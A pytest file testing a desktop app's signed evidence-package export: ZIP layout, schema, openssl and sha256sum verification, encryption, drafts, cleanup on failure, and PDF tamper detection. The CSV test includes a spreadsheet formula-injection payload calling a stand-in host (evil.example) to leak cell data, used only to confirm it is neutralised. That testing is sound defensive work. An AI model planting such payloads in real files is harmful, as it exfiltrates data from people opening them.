"""The signed ZIP package: layout, schema, standard tools (openssl, sha256sum), encryption,
drafts, and no half-written package after a full disk or a cancel."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import jsonschema
import pytest
from package_helpers import PASSWORD, Demo, make_demo, recipient
from sqlalchemy import text as text_sql

from opal_desktop.errors import BadFile, DiskFull, ExportCancelled, InvalidInput, VaultDamaged
from opal_desktop.evidence.queries import custody_log
from opal_desktop.packages import store
from opal_desktop.packages.csv_export import neutralise
from opal_desktop.packages.export import default_pdf_step, export_package, export_packages
from opal_desktop.packages.model import Grading, PackageDraft, Status, Submitter
from opal_desktop.packages.verify import verify_file
from opal_desktop.paths import resource
from opal_desktop.vault.vault import Vault


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
    return make_demo(tmp_path_factory.mktemp("zip"))


@pytest.fixture
def vault(demo: Demo) -> Iterator[Vault]:
    opened = Vault.open(demo.demo.folder, "manager", PASSWORD)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def exported(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("out")
    vault = Vault.open(demo.demo.folder, "manager", PASSWORD)
    try:
        result = export_package(vault, demo.package, out, "zip")
    finally:
        vault.close()
    assert result.files == [out / f"{demo.package}.zip"] and not result.draft
    return result.files[0]


def test_layout_order_compression_and_times(exported: Path) -> None:
    with zipfile.ZipFile(exported) as archive:
        infos = archive.infolist()
    names = [i.filename for i in infos]
    head = ["README.txt", "package.json", "incidents.csv", "continuity-statements.txt"] + (
        ["report.pdf"] if default_pdf_step() else []
    )
    assert names[: len(head)] == head and names[-2:] == [
        "META-INF/SHA256SUMS",
        "META-INF/SHA256SUMS.p7s",
    ]
    stills = names[len(head) : -2]
    assert (
        stills
        and stills == sorted(stills)
        and all(n.startswith("exhibits/masters/") for n in stills)
    )
    for info in infos:
        # JPEGs, the PDF (its pictures are JPEGs) and the signature gain nothing from deflate
        stored = info.filename.startswith("exhibits/") or info.filename.endswith((".p7s", ".pdf"))
        assert info.compress_type == (zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED), (
            info.filename
        )
    assert len({i.date_time for i in infos}) == 1 and {i.external_attr >> 16 for i in infos} == {
        0o644
    }


def test_package_json_meets_the_committed_schema(exported: Path, demo: Demo) -> None:
    with zipfile.ZipFile(exported) as archive:
        doc = json.loads(archive.read("package.json"))
        lines = archive.read("META-INF/SHA256SUMS").decode().splitlines()
    sums = {path: digest for digest, path in (line.split("  ", 1) for line in lines)}
    schema = json.loads(resource("schemas", "package.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(doc, schema, cls=jsonschema.Draft202012Validator)
    assert doc["package"]["reference"] == demo.package and doc["draft"] is False
    assert doc["grading"]["code"] == "2B C" and doc["schema_version"] == 1
    assert {e["path"]: e["sha256"] for e in doc["exhibits"]}.items() <= sums.items()
    assert {f["path"] for f in doc["files"]} == {
        "README.txt",
        "incidents.csv",
        "continuity-statements.txt",
    } | ({"report.pdf"} if default_pdf_step() else set())


def test_openssl_and_sha256sum_pass(exported: Path, demo: Demo, tmp_path: Path) -> None:
    with zipfile.ZipFile(exported) as archive:
        archive.extractall(tmp_path)  # our own file, in a test: the recipient's step 2
    signed = subprocess.run(
        ["openssl", "cms", "-verify", "-binary", "-inform", "DER", "-in", "META-INF/SHA256SUMS.p7s",
         "-content", "META-INF/SHA256SUMS", "-CAfile", str(demo.cert_pem), "-out", "/dev/null"],
        cwd=tmp_path, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert signed.returncode == 0 and "Verification successful" in signed.stderr, signed.stderr
    sums = subprocess.run(["sha256sum", "-c", "META-INF/SHA256SUMS"], cwd=tmp_path, capture_output=True, text=True,
                          check=False)  # fmt: skip
    lines = sums.stdout.splitlines()
    assert sums.returncode == 0 and lines and all(line.endswith(": OK") for line in lines), (
        sums.stdout
    )
    listed = {line.removesuffix(": OK") for line in lines}
    on_disk = {p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()}
    assert on_disk - listed == {"META-INF/SHA256SUMS", "META-INF/SHA256SUMS.p7s"}
    readme = (tmp_path / "README.txt").read_text(encoding="utf-8")
    assert (
        "1. Get the sender's certificate" in readme and "sha256sum -c META-INF/SHA256SUMS" in readme
    )
    assert "apostrophe" in readme and "\r\n" in (tmp_path / "README.txt").read_bytes().decode()


def test_incidents_csv_neutralises_formulas(exported: Path) -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(start + "1") == "'" + start + "1"
    assert neutralise("Aisle 4") == "Aisle 4" and neutralise("") == ""
    with zipfile.ZipFile(exported) as archive:
        raw = archive.read("incidents.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    bad = next(r for r in rows if r["narrative"].startswith("'="))
    assert bad["narrative"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert bad["location"] == "'+44 aisle" and bad["witnesses"] == "'@SUM(1+1)"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert all(r["loss_pence"].isdigit() for r in rows)


def test_a_pdf_export_is_recorded_with_the_hash_of_its_file(
    vault: Vault, demo: Demo, tmp_path: Path
) -> None:
    # The hash is worked out while the file is written, never read back: check it by reading.
    result = export_package(vault, demo.package, tmp_path, "pdf")
    pdf = result.files[0]
    assert result.records[0]["sha256"] == hashlib.sha256(pdf.read_bytes()).hexdigest()
    assert result.records[0]["size_bytes"] == pdf.stat().st_size
    assert [p.name for p in tmp_path.iterdir()] == [pdf.name]  # no work folder left behind
    if os.name == "posix":  # the same permissions as the ZIP beside it
        zipped = export_package(vault, demo.package, tmp_path, "zip").files[0]
        assert stat.S_IMODE(pdf.stat().st_mode) == stat.S_IMODE(zipped.stat().st_mode) == 0o644


def test_export_recorded_with_hash_and_custody(exported: Path, vault: Vault, demo: Demo) -> None:
    package = store.get_package(vault, demo.package)
    assert package.status is Status.EXPORTED
    record = next(e for e in package.exports if e["file_name"] == exported.name)
    assert (
        record["sha256"] == hashlib.sha256(exported.read_bytes()).hexdigest()
        and record["format"] == "zip"
    )
    with zipfile.ZipFile(exported) as archive:
        refs = [e["reference"] for e in json.loads(archive.read("package.json"))["exhibits"]]
    assert all(
        any(c.action == "exported" and exported.name in c.details for c in custody_log(vault, r))
        for r in refs
    )


def test_encrypted_to_two_recipients_opens_with_openssl(
    vault: Vault, demo: Demo, tmp_path: Path
) -> None:
    (tmp_path / "out").mkdir()
    first, second = recipient(tmp_path, "opal-analyst"), recipient(tmp_path, "opal-duty")
    result = export_package(vault, demo.package, tmp_path / "out", "zip",
                            encrypt_to=[first[0].read_bytes(), second[0].read_bytes()])  # fmt: skip
    p7m = result.files[0]
    assert p7m.name == f"{demo.package}.zip.p7m" and [
        p.name for p in (tmp_path / "out").iterdir()
    ] == [p7m.name]
    for cert, key in (first, second):
        inner = tmp_path / f"{cert.stem}.zip"
        opened = subprocess.run(["openssl", "cms", "-decrypt", "-inform", "DER", "-in", str(p7m), "-recip", str(cert),
                                 "-inkey", str(key), "-out", str(inner)], capture_output=True, text=True, check=False)  # fmt: skip
        assert opened.returncode == 0, opened.stderr
        report = verify_file(inner, demo.cert_pem.read_bytes())
        assert report.valid and report.trusted and report.kind == "zip", report.problems
    report = verify_file(
        p7m, demo.cert_pem.read_bytes(), key=(first[1].read_bytes(), first[0].read_bytes())
    )
    assert report.valid and report.kind == "p7m/zip"
    with pytest.raises(BadFile, match="not for encryption"):
        export_package(
            vault, demo.package, tmp_path / "out", "zip", encrypt_to=[demo.cert_pem.read_bytes()]
        )


def test_not_ready_only_as_a_draft(vault: Vault, tmp_path: Path) -> None:
    with vault.engine.connect() as conn:
        from sqlalchemy import text

        missing = conn.execute(
            text("SELECT reference FROM incidents WHERE has_crime_reference = 0 LIMIT 1")
        ).scalar_one()
    package = store.create_package(vault, PackageDraft(title="Not ready", incident_references=[missing], grading=Grading("2", "B", "P"),
                                   submitter=Submitter("A", "B", "0113 496 0000", "C")))  # fmt: skip
    with pytest.raises(InvalidInput, match=r"not ready to refer.*--draft"):
        export_package(vault, package.reference, tmp_path, "zip")
    assert list(tmp_path.iterdir()) == []
    result = export_package(vault, package.reference, tmp_path, "zip", draft=True)
    assert result.files[0].name == f"{package.reference}-DRAFT.zip" and result.draft
    with zipfile.ZipFile(result.files[0]) as archive:
        assert json.loads(archive.read("package.json"))["draft"] is True
        assert "DRAFT – NOT FOR SUBMISSION" in archive.read("README.txt").decode()
    after = store.get_package(vault, package.reference)
    assert after.status is Status.DRAFT and after.exports[-1]["draft"]


def test_full_disk_leaves_nothing(
    vault: Vault, demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "keep.txt").write_text("already here")
    before = sorted(p.name for p in tmp_path.iterdir())
    exports = len(store.get_package(vault, demo.package).exports)
    real = zipfile.ZipFile.writestr

    def writestr(
        self: zipfile.ZipFile, info: zipfile.ZipInfo | str, data: bytes | str, *a: object
    ) -> None:
        name = info.filename if isinstance(info, zipfile.ZipInfo) else info
        if name.startswith("exhibits/"):
            raise OSError(errno.ENOSPC, "No space left on device")
        real(self, info, data)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", writestr)
    with pytest.raises(
        DiskFull, match=r"is full, .* choose a folder on another disk.* Nothing was left there\."
    ):
        export_package(vault, demo.package, tmp_path, "zip")
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert len(store.get_package(vault, demo.package).exports) == exports


def test_cancel_leaves_nothing(vault: Vault, demo: Demo, tmp_path: Path) -> None:
    calls: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> bool:
        calls.append((done, total))
        return done < total * 3 // 4

    with pytest.raises(ExportCancelled, match=r"cancelled\. No package was written"):
        export_package(vault, demo.package, tmp_path, "zip", progress=progress)
    assert list(tmp_path.iterdir()) == [] and calls and all(d <= t for d, t in calls)


def test_a_still_changed_in_the_vault_is_refused_and_nothing_is_written(
    demo: Demo, tmp_path: Path
) -> None:
    # someone with the vault's key changes a still's stored bytes outside the app
    folder = tmp_path / "vault"
    shutil.copytree(demo.demo.folder, folder, ignore=shutil.ignore_patterns("vault.lock"))
    vault = Vault.open(folder, "manager", PASSWORD)
    try:
        with vault.engine.begin() as conn:
            conn.exec_driver_sql("UPDATE exhibit_blobs SET data = CAST(data || x'00' AS BLOB)")
        exports = len(store.get_package(vault, demo.package).exports)
        out = tmp_path / "out"
        out.mkdir()
        with pytest.raises(VaultDamaged, match=r"no longer matches the SHA-256 recorded when it"):
            export_package(vault, demo.package, out, "zip", pdf_step=None)
        assert list(out.iterdir()) == []
        assert len(store.get_package(vault, demo.package).exports) == exports
    finally:
        vault.close()


# The PDF and the ZIP exported together: one PDF, laid out and signed once, is both the
# standalone report and the ZIP's report.pdf (an analyst comparing them finds the same
# SHA-256), and each file is recorded as it is finished.


def test_one_pdf_serves_both_files(vault: Vault, demo: Demo, tmp_path: Path) -> None:
    before = len(store.get_package(vault, demo.package).exports)
    result = export_packages(vault, demo.package, tmp_path, ("pdf", "zip"))
    pdf, zipped = tmp_path / f"{demo.package}.pdf", tmp_path / f"{demo.package}.zip"
    assert result.files == [pdf, zipped]
    with zipfile.ZipFile(zipped) as archive:
        info = archive.getinfo("report.pdf")
        inside = archive.read(info)
    assert inside == pdf.read_bytes()  # the very same signed PDF
    assert info.compress_type == zipfile.ZIP_STORED  # not deflated for nothing
    recorded = {e["file_name"]: e["sha256"] for e in store.get_package(vault, demo.package).exports}
    assert len(store.get_package(vault, demo.package).exports) == before + 2
    for path in (pdf, zipped):
        assert recorded[path.name] == hashlib.sha256(path.read_bytes()).hexdigest()
    trust = demo.cert_pem.read_bytes()
    for path in (pdf, zipped):
        report = verify_file(path, trust)
        assert report.valid and report.trusted, report.problems
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([pdf.name, zipped.name])


def test_a_cancel_in_the_zip_keeps_the_finished_pdf(
    vault: Vault, demo: Demo, tmp_path: Path
) -> None:
    def progress(done: int, total: int) -> bool:
        return done < total * 3 // 4  # in the ZIP phase, after the PDF is done

    with pytest.raises(ExportCancelled) as cancelled:
        export_packages(vault, demo.package, tmp_path, ("pdf", "zip"), progress=progress)
    pdf = tmp_path / f"{demo.package}.pdf"
    assert cancelled.value.finished == [pdf]
    assert [p.name for p in tmp_path.iterdir()] == [pdf.name]  # no half ZIP, no hidden file
    latest = store.get_package(vault, demo.package).exports[-1]
    assert latest["file_name"] == pdf.name
    assert latest["sha256"] == hashlib.sha256(pdf.read_bytes()).hexdigest()


# The PDF is certified (DocMDP, no changes permitted), so any change after signing is flagged
# by every reader that knows certification, not only "not the whole document".


def _alter_first_page(pdf: bytes) -> bytes:
    """What a forger does: an incremental update that replaces page 1's contents."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    buffer = io.BytesIO(pdf)
    writer = IncrementalPdfFileWriter(buffer)
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page["/Contents"] = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (Nothing happened) Tj ET")
    )
    writer.update_container(page)
    writer.write_in_place()  # type: ignore[no-untyped-call]
    return buffer.getvalue()


def test_the_pdf_is_certified_and_a_later_change_is_a_docmdp_violation(
    vault: Vault, demo: Demo, tmp_path: Path
) -> None:
    import asyncio

    from asn1crypto import pem
    from asn1crypto import x509 as asn1_x509
    from pyhanko.pdf_utils.reader import PdfFileReader
    from pyhanko.sign.fields import MDPPerm
    from pyhanko.sign.validation import async_validate_pdf_signature
    from pyhanko_certvalidator import ValidationContext

    pdf = export_package(vault, demo.package, tmp_path, "pdf").files[0]
    altered = tmp_path / "altered.pdf"
    altered.write_bytes(_alter_first_page(pdf.read_bytes()))
    trust = demo.cert_pem.read_bytes()
    root = asn1_x509.Certificate.load(pem.unarmor(trust)[2])
    for path, intact in ((pdf, True), (altered, False)):
        signature = PdfFileReader(io.BytesIO(path.read_bytes()), strict=False).embedded_signatures[
            0
        ]
        assert signature.docmdp_level is MDPPerm.NO_CHANGES  # a certification signature
        status = asyncio.run(async_validate_pdf_signature(signature, signer_validation_context=(
            ValidationContext(trust_roots=[root], allow_fetching=False))))  # fmt: skip
        assert status.docmdp_ok is intact and status.bottom_line is intact  # pyHanko's verdict
        report = verify_file(path, trust)
        assert report.valid is intact and report.package == demo.package
        if not intact:
            assert any("permitting no changes (DocMDP)" in p for p in report.problems)
    pdfsig = subprocess.run(["pdfsig", str(altered)], capture_output=True, text=True).stdout
    assert "Not total document signed" in pdfsig  # poppler does not read DocMDP, but sees this


@pytest.mark.parametrize("fmt", ["pdf", "zip"])
def test_verify_says_draft_and_names_the_package(
    vault: Vault, demo: Demo, tmp_path: Path, fmt: Literal["pdf", "zip"]
) -> None:
    trust = demo.cert_pem.read_bytes()
    final = export_package(vault, demo.package, tmp_path, fmt).files[0]
    draft = export_package(vault, demo.package, tmp_path, fmt, draft=True).files[0]
    for path, is_draft in ((final, False), (draft, True)):
        report = verify_file(path, trust)
        assert report.valid, report.problems
        assert report.package == demo.package and report.draft is is_draft
        assert report.headline == ("VALID (DRAFT – NOT FOR SUBMISSION)" if is_draft else "VALID")


def _linux_steps(readme: str) -> list[str]:
    """The commands of README.txt's steps 1 to 5, exactly as written (continuations joined)."""
    section = readme.split("HOW TO CHECK WHO SIGNED IT")[1].split("ON WINDOWS")[0]
    commands: list[str] = []
    for line in section.replace("\r\n", "\n").splitlines():
        if line.startswith("     ") and not line.startswith("      "):
            commands.append(line.strip())
        elif line.startswith("       ") and commands and commands[-1].endswith("\\"):
            commands[-1] = commands[-1][:-1] + line.strip()
    return commands


def test_readme_steps_work_word_for_word_in_sh(exported: Path, demo: Demo, tmp_path: Path) -> None:
    with zipfile.ZipFile(exported) as archive:
        readme = archive.read("README.txt").decode("utf-8")
    commands = _linux_steps(readme)
    assert len(commands) == 7 and commands[0].startswith("openssl x509")  # steps 1 to 5
    where = tmp_path / "inbox"  # what the recipient has: the ZIP and the certificate
    where.mkdir()
    shutil.copy(exported, where)
    shutil.copy(demo.cert_pem, where / "cert.pem")
    # as typed, one after another; a marker shows where the last command's output starts
    script = "\n".join(["set -e", *commands[:-1], "echo LAST-STEP", commands[-1]]) + "\n"
    ran = subprocess.run(["sh", "-c", script], cwd=where, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr
    assert "CMS Verification successful" in ran.stderr
    before, after = ran.stdout.split("LAST-STEP\n")
    assert "SHA256 Fingerprint=" in before.upper().replace(
        "SHA256 FINGERPRINT", "SHA256 Fingerprint"
    )
    checked = [line for line in before.splitlines() if line.endswith(": OK")]
    assert len(checked) == len(zipfile.ZipFile(exported).namelist()) - 2  # all but META-INF
    assert after == ""  # step 5: nothing added
    # an added file is caught by step 5 (its diff prints it and fails)
    unpacked = where / exported.stem
    (unpacked / "exhibits" / "masters" / "extra.jpg").write_bytes(b"\xff\xd8 planted")
    ran = subprocess.run(["sh", "-c", "set -e\n" + "\n".join(commands[4:]) + "\n"],
                         cwd=unpacked, capture_output=True, text=True)  # fmt: skip
    assert ran.returncode != 0 and "exhibits/masters/extra.jpg" in ran.stdout


def test_page_one_tells_who_what_where_when_and_writes_a_summary_if_none(
    vault: Vault, demo: Demo, tmp_path: Path
) -> None:
    from opal_desktop.domain.timeutil import utc_to_london
    from opal_desktop.incidents import records
    from opal_desktop.packages.pdf_words import force_name, money

    package = store.get_package(vault, demo.package)
    package.draft.summary = ""
    store.update_package(vault, demo.package, package.draft)
    pdf = export_package(vault, demo.package, tmp_path, "pdf").files[0]
    page = subprocess.run(["pdftotext", "-layout", "-f", "1", "-l", "1", str(pdf), "-"],
                          capture_output=True, text=True, check=True).stdout  # fmt: skip
    flat = " ".join(page.split())
    incidents = [records.get(vault, ref) for ref in package.draft.incident_references]
    days = sorted(utc_to_london(i.occurred_start) for i in incidents if i.occurred_start)
    first, last = days[0], days[-1]
    assert (
        f"{first.day} {first:%b %Y} – {last.day} {last:%b %Y}, {len(incidents)} incidents" in flat
    )
    assert f"Total loss {money(sum(i.loss_pence for i in incidents))}" in flat
    for force in {force_name(i.police.force_id) for i in incidents}:
        assert force in flat
    assert "Summary (written by Opal Desktop from the data)" in flat
    assert "Summary —" not in flat


def test_a_continuity_statement_per_producer_in_the_zip_and_the_pdf(
    exported: Path, vault: Vault
) -> None:
    with zipfile.ZipFile(exported) as archive:
        doc = json.loads(archive.read("package.json"))
        text = archive.read("continuity-statements.txt").decode("utf-8")
        report = archive.read("report.pdf") if "report.pdf" in archive.namelist() else b""
    producers = {p["username"]: p for p in doc["producers"]}
    assert set(producers) == {e["imported_by"] for e in doc["exhibits"]}
    with vault.engine.connect() as conn:
        names: dict[str, str] = dict(
            conn.execute(text_sql("SELECT username, display_name FROM users")).all()
        )
    for username, producer in producers.items():
        assert producer["name"] == names[username]  # a person's name, not a login
        assert f"Statement of: {producer['name']}" in text
    assert "I shall be liable to prosecution if I have wilfully stated" in text
    for exhibit in doc["exhibits"]:  # each labelled as in the exhibit list, with its hash
        assert f"Exhibit {exhibit['reference']}: " in text and exhibit["sha256"] in text
    imported = [c for c in doc["custody"] if c["action"] == "imported"]
    assert {c["exhibit_reference"] for c in imported} == {e["reference"] for e in doc["exhibits"]}
    assert text.count("Signature: ....") == 2 * len(producers)
    if report:
        page_text = subprocess.run(["pdftotext", "-", "-"], input=report, capture_output=True,
                                   check=True).stdout.decode()  # fmt: skip
        assert "Witness statement: exhibits and continuity" in page_text


def test_a_read_only_out_folder_is_one_sentence_and_leaves_nothing(
    vault: Vault, demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from disk_support import read_only_folder

    from opal_desktop.errors import FolderReadOnly
    from opal_desktop.vault import pending_outputs

    exports = len(store.get_package(vault, demo.package).exports)
    with read_only_folder(tmp_path, monkeypatch) as (point, make_read_only, how):
        print(f"read-only out folder made by: {how}")
        make_read_only()
        with pytest.raises(FolderReadOnly, match="is read-only for you") as refused:
            export_packages(vault, demo.package, point, ("pdf", "zip"))
        assert str(point) in str(refused.value) and "Nothing was left there" in str(refused.value)
        assert list(point.iterdir()) == []
    assert len(store.get_package(vault, demo.package).exports) == exports
    assert not (vault.folder / pending_outputs.JOURNAL_NAME).exists()
    assert not list(vault.folder.glob(f"{pending_outputs.WORK_PREFIX}*"))


def test_a_long_chain_of_custody_runs_over_pages(vault: Vault, demo: Demo, tmp_path: Path) -> None:
    # An exhibit exported many times has a long custody list; its statement still lays out
    # (found by the kill-at-every-step test: one table cell cannot be taller than a page).
    reference = store.get_package(vault, demo.package).draft.incident_references[0]
    with vault.transaction() as conn:
        exhibit, sha = conn.execute(text_sql(
            "SELECT e.reference, e.sha256 FROM exhibits e JOIN incidents i ON i.id = e.incident_id "
            "WHERE i.reference = :r LIMIT 1"), {"r": reference}).one()  # fmt: skip
        for n in range(150):
            conn.execute(text_sql(
                "INSERT INTO custody_events(exhibit_reference, exhibit_sha256, incident_reference, action, "
                "at, actor, details) VALUES (:e, :s, :i, 'exported', :at, 'manager', :d)"),
                {"e": exhibit, "s": sha, "i": reference, "at": f"2026-11-20T10:{n % 60:02d}:00+00:00",
                 "d": f"package {demo.package}: copy {n}"})  # fmt: skip
    pdf = export_package(vault, demo.package, tmp_path, "pdf").files[0]
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "copy 149" in text and "copy 0" in text
